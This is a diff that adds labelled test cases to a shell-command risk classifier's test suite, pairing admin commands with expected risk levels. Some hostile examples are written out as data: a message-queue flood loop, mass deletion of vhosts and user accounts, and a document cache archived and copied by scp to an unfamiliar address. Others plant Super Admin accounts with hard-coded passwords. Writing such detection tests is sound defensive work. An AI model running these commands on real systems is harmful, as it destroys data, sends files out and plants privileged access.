@@ -15505,6 +15505,132 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
             'systemctl disable airflow-scheduler\n',
             M,
         ),
+        # round 131 (holdout960-967, held in risk_corpus/pending): status and check helpers and diagnostics checks as
+        # root; install answers preseeded; broker publishers flooding; tables emptied in here-documents; listed vhosts
+        # and accounts deleted (a grep -v leaves the listing whole); a system folder's archive copied to a bare address;
+        # Super Admins and superusers with literal passwords; MongoDB root roles; one password for every account; a
+        # build agent's virtualenvs; minutes-old spool files; a project's crontab named for its account
+        (
+            'sudo documentserver-jwt-status.sh\n'
+            'sudo rabbitmq-diagnostics -q check_port_connectivity\n',
+            M,
+        ),
+        (
+            'sudo documentserver-update-securelink.sh\n',
+            H,
+        ),
+        (
+            'echo "onlyoffice-documentserver onlyoffice/db-pwd password ${DS_DB_PASSWORD:?}" | sudo debconf-'
+            'set-selections\n',
+            M,
+        ),
+        (
+            'echo "onlyoffice-documentserver onlyoffice/db-pwd password x" | sudo tee /var/cache/debconf/pas'
+            'swords.dat\n',
+            H,
+        ),
+        (
+            'while true; do\n'
+            "  amqp-publish -u amqp://guest:guest@localhost:5672/ -r ds.converttask -b '{}'\n"
+            'done\n',
+            H,
+        ),
+        (
+            "amqp-publish -u amqp://guest:guest@localhost:5672/ -r ds.converttask -b '{}'\n",
+            L,
+        ),
+        (
+            "psql -h localhost -U onlyoffice -d onlyoffice <<'SQL'\n"
+            'TRUNCATE TABLE doc_changes, task_result RESTART IDENTITY;\n'
+            'SQL\n',
+            H,
+        ),
+        (
+            "psql -h localhost -U etl -d dw <<'SQL'\n"
+            'TRUNCATE TABLE staging_orders;\n'
+            'SQL\n',
+            S,
+        ),
+        (
+            'for vh in $(rabbitmqctl list_vhosts --silent); do\n'
+            '  rabbitmqctl delete_vhost "$vh"\n'
+            'done\n',
+            H,
+        ),
+        (
+            'for vh in $(rabbitmqctl list_vhosts --silent); do\n'
+            '  rabbitmqctl list_queues -p "$vh" name messages\n'
+            'done\n',
+            S,
+        ),
+        (
+            'gvmd --get-users | grep -vx admin |\n'
+            'while read -r account; do\n'
+            '  gvmd --delete-user="$account"\n'
+            'done\n',
+            H,
+        ),
+        (
+            'gvmd --get-users | grep expired |\n'
+            'while read -r account; do\n'
+            '  gvmd --delete-user="$account"\n'
+            'done\n',
+            S,
+        ),
+        (
+            'CACHE=/var/lib/onlyoffice/documentserver/App_Data/cache/files\n'
+            'tar czf /tmp/c.tgz -C "$CACHE" .\n'
+            'scp -q /tmp/c.tgz drop@198.51.100.19:/srv/in/\n',
+            H,
+        ),
+        (
+            'CACHE=/var/lib/onlyoffice/documentserver/App_Data/cache/files\n'
+            'tar czf /tmp/c.tgz -C "$CACHE" .\n'
+            'scp -q /tmp/c.tgz backup@10.0.0.19:/srv/in/\n',
+            L,
+        ),
+        (
+            'sudo -u gvm gvmd --create-user=feed-sync --password=\'F33d#Sync-2024\' --role="Super Admin"\n',
+            H,
+        ),
+        (
+            'sudo -u gvm gvmd --create-user=feed-sync --password="$FEED_PW" --role="Super Admin"\n',
+            M,
+        ),
+        (
+            "uv run langflow superuser --username ops-support --password 'Support#2024'\n",
+            H,
+        ),
+        (
+            'uv run langflow superuser --username ops-support --password "$(cat /run/secrets/lf)"\n',
+            M,
+        ),
+        (
+            'rm -rf ~/.clearml/venvs-builds/*\n',
+            M,
+        ),
+        (
+            'rm -rf ~/.clearml/config\n',
+            H,
+        ),
+        (
+            "find /var/spool/labelpress/out -maxdepth 1 -type f -name '*.pdf' -mmin +720 -delete\n",
+            M,
+        ),
+        (
+            "find /var/spool/labelpress/out -maxdepth 1 -type f -name '*.pdf' -mmin +5 -delete\n",
+            H,
+        ),
+        (
+            'cd ~/src/ops || exit 1\n'
+            'sudo crontab -u reports cron/reports.crontab\n',
+            M,
+        ),
+        (
+            'cd ~/src/ops || exit 1\n'
+            'sudo crontab -u bob jobs.txt\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
